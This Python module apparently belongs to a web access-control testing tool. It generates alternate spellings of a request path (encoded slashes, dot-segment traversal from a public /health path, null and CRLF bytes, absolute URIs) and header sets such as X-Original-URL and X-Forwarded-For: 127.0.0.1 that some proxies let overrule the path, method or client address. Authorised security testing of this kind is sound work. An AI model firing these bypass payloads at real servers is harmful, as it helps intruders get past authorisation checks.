"""Other ways to write a path, and headers that some servers let overrule it."""

from collections.abc import Mapping
from urllib.parse import urlsplit

# `{path}` as it should be; `{head}` and `{tail}`: before and behind its last slash.
TRICKS: Mapping[str, str] = {
    "upper case": "{upper}",
    "one capital": "{capital}",
    "// before": "/{path}",
    "/// before": "//{path}",
    "// inside": "{head}//{tail}",
    "%2f inside": "{head}%2f{tail}",
    "%2F before": "/%2F{bare}",
    "%252f inside": "{head}%252f{tail}",
    "backslash": "{head}\\{tail}",
    "/./ before": "/.{path}",
    "/./ inside": "{head}/./{tail}",
    "from a public path up": "/health/..{path}",
    "from a public path up, encoded": "/health/%2e%2e{path}",
    "from a public path up, all encoded": "/health%2f..{path}",
    "from a public path up, encoded twice": "/health/%252e%252e{path}",
    "from a public path up, a parameter": "/health/..;{path}",
    "below a public path": "/health{path}",
    "below the documents": "/docs{path}",
    "up to a public path": "{path}/../../../../../health",
    "up to a public path, encoded": "{path}/%2e%2e/%2e%2e/%2e%2e/health",
    "through a folder": "/x/..{path}",
    "through a folder, encoded": "/x/%2E%2E{path}",
    "/ behind": "{path}/",
    "// behind": "{path}//",
    "/. behind": "{path}/.",
    "%2f behind": "{path}%2f",
    "%20 behind": "{path}%20",
    "%09 behind": "{path}%09",
    "%0d%0a behind": "{path}%0d%0a",
    "%00 behind": "{path}%00",
    "%ff behind": "{path}%ff",
    ";x behind": "{path};x",
    ";/health behind": "{path};/health",
    ".json behind": "{path}.json",
    "? behind": "{path}?",
    "?/health behind": "{path}?/health",
    "# behind": "{path}#",
    "#/health behind": "{path}#/health",
    "%3f behind": "{path}%3f",
    "%23 behind": "{path}%23/health",
    "a letter encoded": "{encoded}",
    "absolute": "http://{host}{path}",
    "absolute, a foreign host": "http://health.example.org{path}",
    "absolute, with TLS": "HTTPS://{host}{path}",
    "absolute, a user": "http://health@{host}{path}",
    "absolute, // before": "http://{host}/{path}",
    "no / before": "{bare}",
    "asterisk": "*",
}


def tricked(trick: str, path: str, host: str) -> str:
    """Return what stands in the request line for one of the tricks.

    Args:
        trick: one of the values of `TRICKS`.
        path: as it should be written.
        host: the server's own name and port.
    """
    head, _, tail = path.rpartition("/")
    return trick.format(
        path=path,
        host=host,
        head=head,
        tail=tail,
        bare=path[1:],
        upper=path.upper(),
        capital=path[:1] + path[1:].capitalize(),
        encoded=f"/%{ord(path[1]):02x}{path[2:]}",
    )


# Reverse proxies and frameworks exist that go by one of these instead of the request line.
OTHER_METHODS = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")
_OTHER_PATHS = (
    "X-Original-URL",
    "X-Rewrite-URL",
    "X-Forwarded-Path",
    "X-Forwarded-Prefix",
    "X-Forwarded-Uri",
    "X-Original-URI",
    "X-Script-Name",
)
_OTHER_PEERS = ("X-Forwarded-For", "X-Real-IP", "X-Client-IP", "X-Forwarded-Host")


def overruling_headers(method: str, path: str) -> list[dict[str, str]]:
    """Return headers, one in each, that say: take this method, this path, me for a neighbour."""
    return [
        *({name: method} for name in OTHER_METHODS),
        *({name: path} for name in _OTHER_PATHS),
        *({name: "127.0.0.1"} for name in _OTHER_PEERS),
        {"Connection": "upgrade", "Upgrade": "websocket"},
        {"Connection": "authorization"},
    ]


def path_of(target: str) -> str:
    """Return what of a request target is its path, as it is written (RFC 9112, 3.2)."""
    if target.startswith("/"):
        return target.partition("?")[0].partition("#")[0]
    parts = urlsplit(target)
    return parts.path if parts.scheme else target
